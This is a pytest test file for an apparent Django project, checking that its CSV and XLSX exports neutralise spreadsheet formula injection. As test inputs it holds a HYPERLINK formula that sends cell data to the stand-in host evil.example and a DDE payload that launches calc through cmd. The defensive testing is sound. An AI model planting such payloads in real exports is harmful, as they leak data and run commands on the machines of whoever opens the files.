"""Formula injection: text starting = + - @ tab CR comes out neutralised in every CSV and XLSX export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from minsheng.core.spreadsheets import FORMULA_STARTS, restore_cell, safe_cell, safe_workbook
from minsheng.interchange.exporters.open_data import open_data_csv
from minsheng.interchange.exporters.plan_xlsx import plan_xlsx
from minsheng.interchange.exporters.progress_xlsx import progress_xlsx
from minsheng.progress import sheets
from progress.factories import World, approved_report

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_gets_an_apostrophe_and_comes_back(start):
    text = start + "1+1"
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["改造管网", "'quoted", "a=b", 12, -5, 1.5, None, ""])
def test_harmless_values_are_left_alone(value):
    assert safe_cell(value) == value and restore_cell(value) == value


def test_no_cell_of_a_safe_workbook_is_a_formula():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append([EVIL, "@SUM(1)", "-2+3", 7])
    cells = list(safe_workbook(book).active[1])
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert cells[0].value == "'" + EVIL


@pytest.fixture
def evil_world(world: World) -> World:
    target = world.item.targets.get()
    target.quote = EVIL
    target.save()
    world.item.text = "+cmd|' /C calc'!A0"
    world.item.save()
    approved_report(world, world.item, world.period(2), value="6")
    return world


def _xlsx_strings(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def _assert_no_live_formula(data: bytes) -> None:
    cells = _xlsx_strings(data)
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert any(t.startswith("'=HYPERLINK") or t.startswith("'+cmd") for t in texts)


def test_open_data_csv(evil_world):
    rows = list(csv.DictReader(io.StringIO(open_data_csv(evil_world.plan).decode("utf-8-sig"))))
    assert rows[0]["target_quote"] == "'" + EVIL
    assert rows[0]["item_text"].startswith("'+cmd")


def test_plan_and_progress_xlsx(evil_world):
    _assert_no_live_formula(plan_xlsx(evil_world.plan))
    _assert_no_live_formula(progress_xlsx(evil_world.plan))


def test_reporters_sheet_is_safe_and_reads_back_unchanged(evil_world):
    period = evil_world.period(3)
    data = sheets.sheet_build(user=evil_world.reporter, plan=evil_world.plan, period=period)
    _assert_no_live_formula(data)
    preview = sheets.sheet_preview(user=evil_world.reporter, plan=evil_world.plan, period=period, data=data)
    assert preview.ok and preview.changed == []


def test_public_and_dashboard_csv_downloads(client, evil_world):
    public = client.get(reverse("portal:download", args=[evil_world.plan.pk, "csv"]))
    assert "'" + EVIL in public.content.decode("utf-8-sig").replace('""', '"')
    client.force_login(evil_world.office)
    board = client.get(reverse("dashboard:export", args=["csv"]), {"plan": evil_world.plan.pk})
    assert board.status_code == 200
    assert "'" + EVIL in board.content.decode("utf-8-sig").replace('""', '"')
